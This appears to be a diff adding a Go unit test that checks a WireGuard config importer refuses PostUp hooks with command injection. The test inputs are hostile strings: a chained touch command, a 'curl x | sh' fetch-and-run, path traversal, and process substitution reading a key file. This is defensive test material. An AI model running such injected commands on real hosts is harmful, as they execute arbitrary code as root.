@@ -209,3 +209,46 @@ func TestImportInterfaceName(t *testing.T) {
 		}
 	}
 }
+
+// TestImportRefusesKeyHookInjection: a key-loading hook becomes private_key_file,
+// which is pasted into a root shell hook on the host; only the plain form with a
+// path that is data is taken (issue 9, finding 2).
+func TestImportRefusesKeyHookInjection(t *testing.T) {
+	k1, k2 := key(1), key(2)
+	conf := func(postUp string) []*wgconf.Config {
+		t.Helper()
+		src1 := "[Interface]\nPrivateKey = " + k1.Base64() + "\nAddress = 192.168.100.10/24\nListenPort = 51820\n\n" +
+			"[Peer]\nPublicKey = " + k2.Public().String() + "\nAllowedIPs = 192.168.100.11/32\n"
+		src2 := "[Interface]\nAddress = 192.168.100.11/24\nListenPort = 51820\n" + postUp + "\n" +
+			"[Peer]\nPublicKey = " + k1.Public().String() + "\nAllowedIPs = 192.168.100.10/32\nEndpoint = 10.0.0.1:51820\n"
+		c1, err := wgconf.Parse("s1.conf", []byte(src1))
+		if err != nil {
+			t.Fatal(err)
+		}
+		c2, err := wgconf.Parse("s2.conf", []byte(src2))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return []*wgconf.Config{c1, c2}
+	}
+	r, err := Import("prod", []string{"s1", "s2"}, conf("PostUp = wg set %i private-key /etc/wireguard/s2.key"))
+	if err != nil {
+		t.Fatalf("plain key hook: %v", err)
+	}
+	if h, _ := r.Spec.HostByName("s2"); h.PrivateKeyFile != "/etc/wireguard/s2.key" || len(h.Hooks.PostUp) != 0 {
+		t.Errorf("plain key hook: private_key_file %q, hooks %q", h.PrivateKeyFile, h.Hooks.PostUp)
+	}
+	pwned := t.TempDir() + "/pwned"
+	for _, hook := range []string{
+		"PostUp = wg set %i private-key /etc/wireguard/x.key; touch " + pwned,
+		"PostUp = wg set %i private-key /k; curl x | sh",
+		"PostUp = wg set %i private-key /etc/../k",
+		"PostUp = wg set %i private-key <(cat /etc/wireguard/k)",
+		"PreUp = wg set %i private-key /etc/wireguard/k",
+	} {
+		_, err := Import("prod", []string{"s1", "s2"}, conf(hook))
+		if err == nil || !strings.Contains(err.Error(), "s2.conf:4: ") {
+			t.Errorf("%s: %v, want refused at s2.conf:4", hook, err)
+		}
+	}
+}
